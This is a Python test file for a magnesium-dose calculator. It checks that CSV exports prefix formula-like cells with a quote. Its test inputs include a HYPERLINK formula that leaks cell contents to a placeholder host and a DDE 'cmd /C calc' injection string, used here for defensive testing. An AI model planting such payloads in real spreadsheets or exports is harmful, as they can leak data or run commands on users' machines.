"""CSV output is safe to open in a spreadsheet: text that would run as a formula is quoted."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

import mgcalc as api
from mgcalc.chemistry.forms import COLUMNS as FORM_COLUMNS
from mgcalc.clinical.products import COLUMNS as PRODUCT_COLUMNS

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1;"Click")'
FORM = "evil,{name},,MgO,0,1,40.304,formula,0.603042,,,60.3 %,,Molecules 2020 25:3172 (PMC7397051)"
PRODUCT = "evil-tab,{name},,tablet,,100,oxide,,magnesium 100 mg per tablet,,A label,primary"


@pytest.fixture(autouse=True)
def shipped_tables_after() -> Any:
    yield
    api.use_forms(None)
    api.use_products(None)


def _rows(stdout: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(stdout, newline="")))


@pytest.mark.parametrize(
    ("id", "shown"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+SUM(A1:A2)", "'+SUM(A1:A2)"),
        ("@x", "'@x"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\tleading tab", "'\tleading tab"),
        ("\rleading return", "'\rleading return"),
        ("plain", "plain"),
        ("a=b", "a=b"),  # only the first character matters
        ("-5", "-5"),  # a negative number is a number
        ("+1.5e3", "+1.5e3"),
    ],
    ids=["hyperlink", "sum", "at", "dde", "tab", "cr", "plain", "inner", "negative", "signed"],
)
def test_ids_that_a_spreadsheet_would_run_are_quoted(mgcalc: Any, id: str, shown: str) -> None:
    text = json.dumps({"id": id, "amount": "1g", "form": "oxide"}) + "\n"
    run = mgcalc("convert", "--batch", "-", "--format", "csv", input=text)
    assert run.exit_code == 0, run.stderr
    (row,) = _rows(run.stdout)
    assert row["id"] == shown
    assert (row["ok"], row["elemental_mg"]) == ("true", "603.0419999999999")


def test_dose_and_plan_rows_quote_ids_and_keep_numbers(mgcalc: Any) -> None:
    text = (
        "id,items,diet,age,sex\n"
        "+SUM(A1:A2),elemental=100mg,-5mg,40,female\n"
        "@x,elemental=100mg,230mg,40,female\n"
    )
    run = mgcalc("dose", "--batch", "-", "--batch-format", "csv", "--format", "csv", input=text)
    first, second = _rows(run.stdout)
    assert (first["id"], first["ok"]) == ("'+SUM(A1:A2)", "false")
    assert first["error"].startswith("amount '-5mg'")
    assert (second["id"], second["total_mg"], second["rda_mg"]) == ("'@x", "330.0", "320.0")
    text = "id,form,unit,age,sex,diet\n=1+1,glycinate,500mg,40,female,200mg\n"
    run = mgcalc("plan", "--batch", "-", "--batch-format", "csv", "--format", "csv", input=text)
    (row,) = _rows(run.stdout)
    # 2 × 500 mg of glycinate (14.10 % magnesium) is 141 mg: 341 mg with the diet.
    assert (row["id"], row["ok"], row["units"]) == ("'=1+1", "true", "2")
    assert float(row["total_mg"]) == pytest.approx(340.961, abs=0.001)


def test_custom_form_and_product_names_are_quoted(mgcalc: Any, tmp_path: Path) -> None:
    forms = tmp_path / "forms.csv"
    forms.write_text(
        ",".join(FORM_COLUMNS) + "\n" + FORM.format(name=_csv_cell(HYPERLINK)) + "\n",
        encoding="utf-8",
    )
    products = tmp_path / "products.csv"
    products.write_text(
        ",".join(PRODUCT_COLUMNS) + "\n" + PRODUCT.format(name="+SUM(A1:A2)") + "\n",
        encoding="utf-8",
    )
    text = "id,amount,form\nf,1g,evil\np,2,evil-tab\n"
    run = mgcalc(
        "convert", "--batch", "-", "--batch-format", "csv", "--format", "csv",
        "--forms", str(forms), "--products", str(products), input=text,
    )  # fmt: skip
    assert run.exit_code == 0, run.stderr
    form, product = _rows(run.stdout)
    assert (form["name"], form["elemental_mg"]) == ("'" + HYPERLINK, "603.0419999999999")
    assert (product["name"], product["product"], product["elemental_mg"]) == (
        "'+SUM(A1:A2)", "evil-tab", "200.0",
    )  # fmt: skip


def test_json_lines_keep_the_text_as_it_was(mgcalc: Any) -> None:
    text = "id,amount,form\n@x,1g,oxide\n"
    run = mgcalc("convert", "--batch", "-", "--batch-format", "csv", input=text)
    assert json.loads(run.stdout)["id"] == "@x"


def _csv_line(cells: list[str]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerow(cells)
    return out.getvalue()


def _csv_cell(text: str) -> str:
    return _csv_line([text]).rstrip("\n")
